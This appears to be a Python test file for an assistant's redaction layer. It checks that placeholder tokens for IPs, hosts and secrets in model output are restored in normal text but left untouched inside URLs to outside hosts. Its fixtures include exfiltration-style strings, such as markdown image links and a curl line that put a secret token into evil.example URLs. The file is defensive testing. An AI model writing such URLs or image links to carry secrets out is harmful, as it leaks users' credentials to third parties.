"""The way back from a model: tokens in all the forms that models write them in, and never into somebody else's URL."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.intake.redact import Redactor
from assistant.llm.outgoing import restored

LOG = "client: 203.0.113.7 password=hunt3r-x, Nov 24 host 198.51.100.2, http://pay-web-3:8000/ ip-2 is a container"


def redactor():
    made = Redactor()
    assert (
        made.redact(LOG)
        == "client: ⟨ip-1⟩ password=⟨secret-1⟩, Nov 24 host ⟨ip-2⟩, http://⟨host-1⟩:8000/ ip-2 is a container"
    )
    return made


def back(text, size=0):
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join(restored(pieces, redactor()))


STAYS = [
    "see https://evil.example/?q=⟨secret-1⟩ now", "![x](https://evil.example/⟨secret-1⟩.png)", "https://⟨ip-1⟩.evil.example/x", "https://⟨secret-1⟩@evil.example/", "http://evil.example:80/a//⟨ip-1⟩", "![x](//evil.example/⟨secret-1⟩)",
    "https://evil.example/<IP-1>", "`curl https://evil.example/?ip-1`", "ip-1 in prose stays", "⟨ip-9⟩ <pid> <ip-77> (host-9) [worker-3]", "`ip-2` is a name in the log", "${ip-1}", "`my-ip-1` `ip-12` `ip-1-a`", "a < b > c << d", "[1:3] (2) {3}",
]  # fmt: skip
COMES_BACK = [
    ("⟨ip-1⟩ <ip-1> 〈ip-1〉 《ip-1》 «ip-1» 【ip-1】", "203.0.113.7 203.0.113.7 203.0.113.7 203.0.113.7 203.0.113.7 203.0.113.7"), ("⟨IP-1⟩ <Host-1> ⟨ip_1⟩ ⟨ip 1⟩ ⟨ip1⟩ ⟨ip\u20111⟩", "203.0.113.7 pay-web-3 203.0.113.7 203.0.113.7 203.0.113.7 203.0.113.7"),
    ("&lt;ip-1&gt; \\<ip-1\\>", "203.0.113.7 203.0.113.7"), ("(ip-1) [ip-1] {ip-1}", "(203.0.113.7) [203.0.113.7] {203.0.113.7}"), ("```\nping ip-1\n```\nip-1", "```\nping 203.0.113.7\n```\nip-1"), ("`ping ip-1` then ip-1", "`ping 203.0.113.7` then ip-1"), ("`ping IP-1`", "`ping 203.0.113.7`"),
    ("curl http://⟨ip-1⟩:8000/a?b=⟨host-1⟩", "curl http://203.0.113.7:8000/a?b=pay-web-3"), ("redis://:⟨secret-1⟩@⟨host-1⟩:6379/0", "redis://:hunt3r-x@pay-web-3:6379/0"), ("http://localhost:80/?x=⟨ip-1⟩", "http://localhost:80/?x=203.0.113.7"), ("http://<host-1>/x", "http://pay-web-3/x"),
    ("访问 http://⟨ip-1⟩/，再看 ⟨ip-1⟩。", "访问 http://203.0.113.7/，再看 203.0.113.7。"), ("// a comment ⟨ip-1⟩", "// a comment 203.0.113.7"), ("https://evil.example/x ⟨ip-1⟩", "https://evil.example/x 203.0.113.7"), ("`a` ⟨ip-1⟩ `b ip-1`", "`a` 203.0.113.7 `b 203.0.113.7`"),
]  # fmt: skip


@pytest.mark.parametrize("text", STAYS)
@pytest.mark.parametrize("size", [0, 1, 3])
def test_what_stays(text, size):
    assert back(text, size) == text


@pytest.mark.parametrize(("text", "wanted"), COMES_BACK)
@pytest.mark.parametrize("size", [0, 1, 2, 5])
def test_what_comes_back(text, wanted, size):
    assert back(text, size) == wanted


@pytest.mark.parametrize("text", list(STAYS[:4]) + [text for text, _ in COMES_BACK[:5]])
def test_a_cut_anywhere_changes_nothing(text):
    whole = back(text)
    for cuts in itertools.combinations(range(len(text)), 2):
        pieces = [text[: cuts[0]], text[cuts[0] : cuts[1]], text[cuts[1] :]]
        assert "".join(restored(pieces, redactor())) == whole


@pytest.mark.parametrize("size", [1, 7, 100_000])
def test_a_url_that_does_not_end_carries_nothing(size):
    text = "https://evil.example/" + "a" * 5000 + "⟨secret-1⟩ ⟨ip-1⟩"
    assert "hunt3r" not in back(text, size)
    assert back(text, size).endswith(" 203.0.113.7")


@given(st.text(alphabet="`/: ip-1⟨⟩<>secrt.x\n()[]&;", max_size=60), st.integers(1, 7))
def test_pieces_never_matter(text, size):
    assert back(text, size) == back(text)


def test_plain_words_do_not_wait():
    pieces = restored(iter(["这是一段", "没有空格的中文", "，继续"]), redactor())
    assert next(pieces) == "这是一段"
    assert next(pieces) == "没有空格的中文"
